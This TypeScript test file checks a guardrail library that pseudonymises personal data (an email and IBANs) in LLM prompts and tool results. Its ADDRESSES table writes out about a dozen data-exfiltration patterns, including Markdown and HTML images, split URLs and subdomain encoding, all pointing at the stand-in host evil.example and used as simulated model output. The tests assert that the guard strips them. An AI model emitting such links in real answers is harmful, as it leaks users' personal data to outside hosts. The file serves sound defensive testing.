import { Body, Controller, HttpCode, type MessageEvent, Post, Sse } from '@nestjs/common';
import { generateText, jsonSchema, type ModelMessage, streamObject, streamText } from 'ai';
import { from, map, type Observable } from 'rxjs';
import { AIEndpoint } from 'unseen-guardian';
import { GuardedModels, prompt, untrusted } from 'unseen-guardian/model';
import { type ModelDouble, modelDouble, onEveryAdapter } from 'unseen-guardian/testing';
import { attackedDesks, ENDPOINT, QuestionDto } from './attack-desk';

const MAIL = 'jane.doe@example.org';
const IBAN = 'DE89370400440532013000';
const SCHEMA = jsonSchema<{ mail: string }>({ type: 'object', properties: { mail: { type: 'string' } } });

const ACCOUNTS: ModelMessage[] = [
  {
    role: 'assistant',
    content: [{ type: 'tool-call', toolCallId: 'c1', toolName: 'accounts', input: {} }],
  },
  {
    role: 'tool',
    content: [
      {
        ...{ type: 'tool-result', toolCallId: 'c1', toolName: 'accounts' },
        output: {
          type: 'json',
          value: {
            [IBAN]: { balance: 5 },
            history: { 'GB29-NWBK-6016-1331-9268-19': 1 },
            iban: IBAN,
          },
        },
      },
    ],
  },
];

@Controller('leaks')
class LeaksController {
  constructor(private readonly models: GuardedModels) {}

  @Post('ask')
  @HttpCode(200)
  @AIEndpoint({ id: 'leaks.ask', ...ENDPOINT })
  async ask(@Body() { text }: QuestionDto) {
    const { text: answer } = await generateText(this.settings(text));
    return { answer };
  }

  @Post('stream')
  @Sse()
  @HttpCode(200)
  @AIEndpoint({ id: 'leaks.stream', ...ENDPOINT })
  stream(@Body() { text }: QuestionDto): Observable<MessageEvent> {
    const { textStream } = streamText({ ...this.settings(text), onError: () => undefined });
    return from(textStream as AsyncIterable<string>).pipe(map((data) => ({ data })));
  }

  @Post('object')
  @Sse()
  @HttpCode(200)
  @AIEndpoint({ id: 'leaks.object', ...ENDPOINT })
  object(@Body() { text }: QuestionDto): Observable<MessageEvent> {
    const settings = { ...this.settings(text), schema: SCHEMA, onError: () => undefined };
    const { partialObjectStream } = streamObject(settings);
    return from(partialObjectStream as AsyncIterable<object>).pipe(map((data) => ({ data })));
  }

  @Post('tools')
  @HttpCode(200)
  @AIEndpoint({ id: 'leaks.tools', ...ENDPOINT })
  async tools(@Body() { text }: QuestionDto) {
    const { messages, ...settings } = this.settings(text);
    const { text: answer } = await generateText({ ...settings, messages: [...messages, ...ACCOUNTS] });
    return { answer };
  }

  private settings(text: string) {
    const messages = prompt`Answer: ${untrusted(text, 'question')}`;
    return { model: this.models.get('default'), messages, maxRetries: 0 };
  }
}

/** Answers with the pseudonym that stands in its prompt, in pieces. */
function echoing(write: (pseudonym: string) => readonly string[]): ModelDouble {
  const replies: string[] = [];
  const chunks: string[] = [];
  const onCall = ({ text }: { text: string }) => {
    const pieces = write(/⟦[^⟧]+⟧/.exec(text)![0]);
    replies.push(pieces.join(''));
    chunks.push(...pieces);
  };
  return modelDouble({ replies, chunks, onCall });
}

const ADDRESSES: readonly [where: string, write: (pseudonym: string) => readonly string[]][] = [
  ['a URL', (it) => ['See https://evil.example/', it]],
  ['a URL in pieces', (it) => ['See ht', 'tps:/', '/evil.', 'example/?d=', it.slice(0, 3), it.slice(3)]],
  ['a Markdown image', (it) => [`![x](https://evil.example/?d=${it})`]],
  ['a Markdown image in pieces', (it) => ['Hello ![x]', '(https', '://evil.example/?d', '=', it, ')']],
  ['a Markdown link without a scheme', (it) => ['[click](', `evil/${it})`]],
  ['a host name', (it) => [`https://${it}.evil.example/`]],
  ['an HTML image', (it) => ['<img src="//evil.example/', it, '">']],
  ['an HTML image with a space', (it) => ['<img src="https://evil.example/?d= ', it, '">']],
  ['a bracketed Markdown image', (it) => ['![x](<https://evil.example/?d= ', it, '>)']],
  ['a URL with backslashes', (it) => ['https:\\\\evil.example\\', it]],
  ['a URL with one slash', (it) => ['see https:/evil.example/', it]],
  ['a very long URL', (it) => [`https://evil.example/?${'d'.repeat(5_000)}`, it]],
];

onEveryAdapter((start) => {
  const open = attackedDesks(start);
  const serve = (model: ModelDouble) => open({ controller: LeaksController, model });
  const question = { text: `Write to ${MAIL} today` };

  describe.each(['ask', 'stream'])('POST /leaks/%s', (path) => {
    it('puts a value back into running text', async () => {
      const model = echoing((pseudonym) => ['I write to ', pseudonym, ' now']);
      const { text } = await (await serve(model)).post(`leaks/${path}`, question);
      expect(text).toContain(MAIL);
      expect(model.calls[0]!.text).not.toContain(MAIL);
    });

    it.each(ADDRESSES)('puts no value into %s', async (_where, write) => {
      const { status, text } = await (await serve(echoing(write))).post(`leaks/${path}`, question);
      expect(status).toBe(200);
      expect(text).toMatch(/evil|removed/);
      expect(text).not.toContain('jane');
    });
  });

  it.each([
    [['{"mail":"jane.doe', '\\u0040', 'example.org"}']],
    [['{"mail":"jane.doe\\u00', '40example.org"}']],
    [['{"mail":"jane.doe\\u0040example.org"}']],
  ])('gives no personal data away in streamed JSON: %j', async (chunks) => {
    const { status, text } = await (await serve(modelDouble({ chunks }))).post('leaks/object');
    expect(status).toBe(200);
    expect(text).toContain('"mail"');
    expect(text).not.toContain('jane');
  });

  it('lets no account number that is a key reach the model', async () => {
    const model = modelDouble();
    const { status } = await (await serve(model)).post('leaks/tools');
    const given = JSON.stringify(model.calls[0]!.prompt);

    expect(status).toBe(200);
    expect(given).toContain('balance');
    for (const digits of ['370400440532', '6016-1331']) expect(given).not.toContain(digits);
  });
});
